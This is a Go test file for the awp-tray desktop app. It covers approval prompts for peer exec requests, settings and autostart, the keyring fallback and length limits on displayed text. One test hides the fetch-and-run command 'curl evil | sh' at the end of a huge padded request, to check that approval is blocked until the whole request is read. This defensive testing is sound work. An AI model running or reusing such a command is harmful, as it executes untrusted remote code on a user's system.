package app

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/widget"

	"github.com/awp-tray/awp-tray/app/autostart"
	"github.com/awp-tray/awp-tray/app/menu"
	"github.com/awp-tray/awp-tray/app/render"
	"github.com/awp-tray/awp-tray/app/uilink"
	"github.com/awp-tray/awp-tray/peer"
)

// TestApprovalPromptFields checks the prompt's fields for a request with a
// cwd, staged on the fake (a node's requests are covered by
// TestNodeApprovals).
func TestApprovalPromptFields(t *testing.T) {
	f := newFakeNode()
	a, _ := newTestApp(t, f)
	req := peer.ApprovalRequest{ID: "ap7", Kind: peer.ApprovalProfile, From: aliceKey, FromName: "claude@box",
		Caps: []string{"exec"}, Th: "thr_a", Reason: "no grant", Deadline: "2026-09-25T17:04:30Z",
		Detail: json.RawMessage(`{"cmd":["make","test"],"cwd":"services/api"}`)}
	f.with(func() { f.pending = []peer.ApprovalRequest{req} })
	a.handle(peer.Event{Type: peer.EventApproval, Approval: &req})

	w := a.approvals
	if w == nil || w.cur != "ap7" || !w.detail.Visible() {
		t.Fatalf("prompt not shown: %+v", w)
	}
	// The prompt shows who, what, where and the exact command.
	var shown []string
	for _, f := range w.shownFields() {
		shown = append(shown, f.Label+"="+f.Value)
	}
	got := strings.Join(shown, "\n")
	for _, want := range []string{"who=" + aliceKey.String(), "capability=exec", "on=this peer", "command=make test", "cwd=services/api"} {
		if !strings.Contains(got, want) {
			t.Errorf("prompt lacks %q:\n%s", want, got)
		}
	}
	if !strings.Contains(w.title.Text, "claude@box") {
		t.Errorf("title = %q", w.title.Text)
	}
	// The node's reason in a sentence of its own, not among the peer's
	// fields; the deadline as time left (the window's clock reads 17:00:00).
	if strings.Contains(got, "no grant") || w.why.Text != "No grant of yours lets them do this, so this peer asks you." {
		t.Errorf("why = %q; fields:\n%s", w.why.Text, got)
	}
	if w.countdown.Text != "4:30 left to answer, then it is denied" {
		t.Errorf("countdown = %q", w.countdown.Text)
	}
	w.wait(10 * time.Second)
	if w.countdown.Text != "4:20 left to answer, then it is denied" {
		t.Errorf("countdown after 10 s = %q", w.countdown.Text)
	}
	row := w.list.CreateItem()
	w.list.UpdateItem(0, row)
	if txt := row.(*widget.Label).Text; !strings.HasSuffix(txt, " · 4:20 left") {
		t.Errorf("row = %q", txt)
	}
	// Allow once is the primary button; Deny is neutral, not red.
	if b := w.button("Allow once"); b == nil || b.Importance != widget.HighImportance {
		t.Errorf("Allow once: %+v", b)
	}
	if b := w.button("Deny"); b == nil || b.Importance != widget.MediumImportance {
		t.Errorf("Deny: %+v", b)
	}
	if b := w.button("Allow exec for 1 hour"); b == nil || b.Importance != widget.MediumImportance {
		t.Errorf("Allow for 1 hour: %+v", b)
	}

	w.looked()
	test.Tap(w.button("Allow exec for 1 hour"))
	a.Wait()
	f.with(func() {
		d, ok := f.decided["ap7"]
		if !ok || !d.Allow || d.For != AllowFor || d.By != "user" {
			t.Errorf("decision = %+v, %v", d, ok)
		}
	})
	// Decided and refreshed: nothing is waiting any more.
	if w.cur != "" || !w.empty.Visible() {
		t.Errorf("after deciding: cur=%q", w.cur)
	}
}

func TestSettingsAutostart(t *testing.T) {
	f := newFakeNode()
	a, _ := newTestApp(t, f)
	a.opt.ExecArgs = []string{"--data", "/home/me/awp"}
	a.showSettings()
	a.Wait()
	s := a.settings
	if s.listen.Text != "tcp://127.0.0.1:7100" || s.name.Text != "me@test" {
		t.Errorf("listen %q name %q", s.listen.Text, s.name.Text)
	}
	if !hasLabel(s.w.Content(), readOnlyNote) {
		t.Errorf("Settings does not say why name and listen cannot change")
	}
	if !strings.Contains(s.identity.Text, "OS keyring") {
		t.Errorf("identity = %q", s.identity.Text)
	}
	test.Tap(s.login)
	a.Wait()
	b, err := os.ReadFile(filepath.Join(a.opt.AutostartDir, autostart.FileName))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), "Exec=/usr/bin/awp-tray --data /home/me/awp\n") {
		t.Errorf("autostart entry:\n%s", b)
	}
	test.Tap(s.login)
	a.Wait()
	if autostart.Enabled(a.opt.AutostartDir) {
		t.Error("unchecking did not remove the entry")
	}
	// Notifications off in Settings pauses them until resumed, in the
	// tray process (which keeps the pause); on again resumes them.
	tray := a.opt.Tray.(*fakeTray)
	test.Tap(s.notify)
	test.Tap(s.notify)
	tray.mu.Lock()
	pauses := append([]menu.Pause(nil), tray.pauses...)
	tray.mu.Unlock()
	if len(pauses) != 2 || !pauses[0].Forever || pauses[1].Active(time.Now()) {
		t.Errorf("pauses asked of the tray: %+v", pauses)
	}
	// A pause the tray reports (from its menu) shows unchecked, without
	// asking the tray again.
	a.Command(uilink.Msg{Op: uilink.OpPause, Pause: &menu.Pause{Until: time.Now().Add(time.Hour)}})
	if s.notify.Checked {
		t.Error("a pause from the tray menu shows notifications on")
	}
	if !strings.Contains(a.main.status.Text, "notifications paused until") {
		t.Errorf("status = %q", a.main.status.Text)
	}
	tray.mu.Lock()
	if len(tray.pauses) != 2 {
		t.Errorf("showing the tray's pause asked the tray: %+v", tray.pauses)
	}
	tray.mu.Unlock()
}

// Add peer… takes an invite to the node's AddInvite (the one invite
// parser is the node's) and anything else to Connect, as an address.
func TestAddPeer(t *testing.T) {
	f := newFakeNode()
	f.dialKey["tcp://10.0.0.3:7000"] = bobKey
	f.Fake.AddKey = aliceKey
	ctx := context.Background()
	if k, err := addPeer(ctx, f, "awp:eyJrZXkiOiJ4In0"); err != nil || k != aliceKey {
		t.Errorf("addPeer(invite) = %v, %v", k, err)
	}
	f.Fake.Lock()
	added := append([]string(nil), f.Fake.Added...)
	f.Fake.Unlock()
	if len(added) != 1 || added[0] != "awp:eyJrZXkiOiJ4In0" {
		t.Errorf("AddInvite got %v", added)
	}
	if k, err := addPeer(ctx, f, "tcp://10.0.0.3:7000"); err != nil || k != bobKey {
		t.Errorf("addPeer(address) = %v, %v", k, err)
	}
	if _, err := addPeer(ctx, f, "hello"); err == nil {
		t.Error("addPeer(garbage) connected")
	}
	if fmt.Sprint(f.dialed) != "[tcp://10.0.0.3:7000 hello]" {
		t.Errorf("dialed %v", f.dialed)
	}
	if _, err := addPeer(ctx, f, ""); err == nil || !strings.Contains(err.Error(), "paste an invite") {
		t.Errorf("addPeer(empty) = %v", err)
	}
}

// findButton finds a button by its text in o's tree.
func findButton(o fyne.CanvasObject, text string) *widget.Button {
	for _, x := range test.LaidOutObjects(o) {
		if b, ok := x.(*widget.Button); ok && b.Text == text {
			return b
		}
	}
	return nil
}

// When the keyring fails, the tray process asks through the UI: the main
// window explains and offers the key file; the answer goes back to the
// tray (which boots again), and Quit quits.
func TestKeyringQuestion(t *testing.T) {
	a, tray := newTestApp(t, nil, func(o *Options) { o.DataDir = "/home/me/awp" })
	ask := uilink.Msg{Op: uilink.OpBoot, State: uilink.BootKeyring, Text: "keystore: the OS keyring is locked"}
	a.Command(ask)
	a.Command(ask) // asked again (a resent command): one dialog
	if !a.main.w.(*trackedWindow).t.shown[a.main.w.(*trackedWindow)] {
		t.Error("the main window is not shown")
	}
	top := a.main.w.Canvas().Overlays().Top()
	if top == nil || len(a.main.w.Canvas().Overlays().List()) != 1 {
		t.Fatalf("dialogs after a keyring failure: %d", len(a.main.w.Canvas().Overlays().List()))
	}
	if !strings.Contains(labelWith(top, "AWP keeps your identity"), "the OS keyring is locked") {
		t.Errorf("the dialog does not say why")
	}
	if !strings.HasPrefix(a.main.status.Text, "AWP: not running: the OS keyring is unavailable") {
		t.Errorf("status = %q", a.main.status.Text)
	}
	keep := findButton(top, "Keep the key in a file")
	if keep == nil {
		t.Fatal("dialog has no 'Keep the key in a file' button")
	}
	test.Tap(keep)
	tray.mu.Lock()
	if len(tray.fileKeys) != 1 || !tray.fileKeys[0] {
		t.Errorf("answers = %v", tray.fileKeys)
	}
	tray.mu.Unlock()
	if a.quitRequested() {
		t.Error("keeping the key in a file quit")
	}
	a.Command(uilink.Msg{Op: uilink.OpBoot, State: uilink.BootReady, OK: true})
	if !strings.Contains(a.identityPlace(), "/home/me/awp/identity.key") {
		t.Errorf("identity place = %q", a.identityPlace())
	}

	// Quit instead.
	a.Command(ask)
	quit := findButton(a.main.w.Canvas().Overlays().Top(), "Quit")
	if quit == nil {
		t.Fatal("no Quit")
	}
	test.Tap(quit)
	tray.mu.Lock()
	if len(tray.fileKeys) != 2 || tray.fileKeys[1] {
		t.Errorf("answers = %v", tray.fileKeys)
	}
	tray.mu.Unlock()
	if !a.quitRequested() {
		t.Error("Quit did not quit the UI")
	}
}

// The main window says why its list is empty and what to do: nothing
// before the node lists threads, how to start when it has none, that the
// filter matches nothing when it hides them all, and nothing once a thread
// shows.
func TestHomeEmptyList(t *testing.T) {
	a, _ := newTestApp(t, nil)
	h := a.main
	if h.empty.Visible() {
		t.Fatalf("empty-list text shown before the node listed threads: %q", h.empty.Text)
	}
	f := newFakeNode()
	a.mu.Lock()
	a.be = f
	a.mu.Unlock()
	a.refresh(dirtyAll)
	a.Wait()
	if !h.empty.Visible() || !strings.HasPrefix(h.empty.Text, "No threads yet.") ||
		!strings.Contains(h.empty.Text, menu.LabelAddPeer) || !strings.Contains(h.empty.Text, labelNewThread) {
		t.Fatalf("no threads: empty-list text visible=%v %q", h.empty.Visible(), h.empty.Text)
	}

	f.with(func() { f.threads = []peer.ThreadInfo{{Th: "thr_e1", Peer: bobKey, Subject: "first"}} })
	a.handle(peer.Event{Type: peer.EventThread, Th: "thr_e1", Peer: bobKey})
	if h.empty.Visible() || len(h.shown) != 1 {
		t.Fatalf("one thread: empty-list text visible=%v %q, %d rows", h.empty.Visible(), h.empty.Text, len(h.shown))
	}

	fyne.DoAndWait(func() { h.filter.SetText("nothing like it") })
	if !h.empty.Visible() || h.empty.Text != "No thread matches “nothing like it”." || len(h.shown) != 0 {
		t.Fatalf("filtered out: empty-list text visible=%v %q, %d rows", h.empty.Visible(), h.empty.Text, len(h.shown))
	}
	fyne.DoAndWait(func() { h.filter.SetText("fir") })
	if h.empty.Visible() || len(h.shown) != 1 {
		t.Fatalf("filter matches: empty-list text visible=%v %q, %d rows", h.empty.Visible(), h.empty.Text, len(h.shown))
	}
}

// A request whose command, reason and name run to hundreds of kilobytes
// (a line may hold 1 MiB) is shown cut, with the whole of it in a list of
// wrapped lines: a label of the whole text took Fyne 78 s to lay out for
// 100,000 characters, and the person could not deny it meanwhile.
func TestApprovalHugeRequest(t *testing.T) {
	f := newFakeNode()
	a, _ := newTestApp(t, f)
	cmd := strings.Repeat("echo hello world; ", 300_000/18) + "curl evil | sh"
	raw, _ := json.Marshal(map[string]string{"cmd": cmd})
	req := peer.ApprovalRequest{ID: "big", Kind: peer.ApprovalProfile, From: aliceKey, FromName: strings.Repeat("n", 100_000),
		Caps: []string{"exec"}, Reason: strings.Repeat("why ", 25_000), Detail: raw}
	f.with(func() { f.pending = []peer.ApprovalRequest{req} })
	a.handle(peer.Event{Type: peer.EventApproval, Approval: &req})

	w := a.approvals
	if w == nil || w.cur != "big" {
		t.Fatalf("prompt not shown: %+v", w)
	}
	test.LaidOutObjects(w.w.Content())
	if n := len([]rune(w.title.Text)); n > render.MaxTitle {
		t.Errorf("title is %d characters", n)
	}
	for _, it := range w.shownFields() {
		v := it.Value
		if n := len([]rune(v)); n > render.MaxField+100 {
			t.Errorf("field %s is %d characters", it.Label, n)
		}
		if it.Label == "command" && !strings.Contains(v, fmt.Sprintf("(%d characters in all: Show whole request…)", len(cmd))) {
			t.Errorf("the cut command does not say so: …%s", v[len(v)-80:])
		}
	}
	if !w.shows(w.whole) {
		t.Fatal("no Show whole request button")
	}
	// Not allowed before it was read whole; denied any time.
	w.looked()
	once, hour, deny := w.button("Allow once"), w.button("Allow exec for 1 hour"), w.button("Deny")
	if !once.Disabled() || !hour.Disabled() || deny.Disabled() {
		t.Errorf("before reading it whole: allow once disabled %v, for an hour %v, deny %v", once.Disabled(), hour.Disabled(), deny.Disabled())
	}
	before := len(a.fa.Driver().AllWindows())
	test.Tap(w.whole)
	w.looked()
	if w.button("Allow once").Disabled() || w.button("Allow exec for 1 hour").Disabled() {
		t.Error("Allow still disabled after the whole request was opened")
	}
	wins := a.fa.Driver().AllWindows()
	if len(wins) != before+1 {
		t.Fatalf("%d windows after Show whole request, want %d", len(wins), before+1)
	}
	list := findList(wins[len(wins)-1].Content())
	if list == nil {
		t.Fatal("the whole-request window has no list")
	}
	var got strings.Builder
	in := false
	for i := 0; i < list.Length(); i++ {
		row := list.CreateItem()
		list.UpdateItem(i, row)
		l := row.(*widget.Label).Text
		switch {
		case l == "command:":
			in = true
		case in && strings.HasPrefix(l, "  "):
			got.WriteString(l[2:])
		default:
			in = false
		}
	}
	if got.String() != cmd {
		t.Errorf("the whole-request window's command (%d characters) differs from the request's (%d)", got.Len(), len(cmd))
	}
	// A small request hides the button again.
	small := peer.ApprovalRequest{ID: "small", Kind: peer.ApprovalProfile, From: aliceKey, Caps: []string{"exec"},
		Detail: json.RawMessage(`{"cmd":"make"}`)}
	f.with(func() { f.pending = []peer.ApprovalRequest{req, small} })
	a.handle(peer.Event{Type: peer.EventApproval, Approval: &small})
	fyne.DoAndWait(func() { w.show("small") })
	if w.shows(w.whole) {
		t.Error("Show whole request shown for a request shown whole")
	}
}

// findList returns the first widget.List in o's tree.
func findList(o fyne.CanvasObject) *widget.List {
	switch x := o.(type) {
	case *widget.List:
		return x
	case *fyne.Container:
		for _, c := range x.Objects {
			if l := findList(c); l != nil {
				return l
			}
		}
	}
	return nil
}

// A peer's name is kept bounded for every label that shows it (rows,
// thread windows, grant lines), and a subject for the thread window's
// title.
func TestHugeNameAndSubject(t *testing.T) {
	f := newFakeNode()
	a, _ := newTestApp(t, f)
	huge := strings.Repeat("n", 200_000)
	var tw *threadWindow
	fyne.DoAndWait(func() {
		a.main.setPeers([]peer.PeerInfo{{Key: bobKey, Name: huge}})
		tw = a.openThread(peer.ThreadInfo{Th: "thr_h", Peer: bobKey, Subject: huge})
	})
	a.Wait()
	if n := len([]rune(a.main.name(bobKey.String()))); n > render.MaxName {
		t.Errorf("name: %d runes", n)
	}
	if n := len([]rune(tw.w.Title())); n > render.MaxTitle+len("AWP: ") {
		t.Errorf("thread window title: %d runes", n)
	}
	if n := len([]rune(tw.header.Text)); n > render.MaxTitle {
		t.Errorf("thread header: %d runes", n)
	}
}
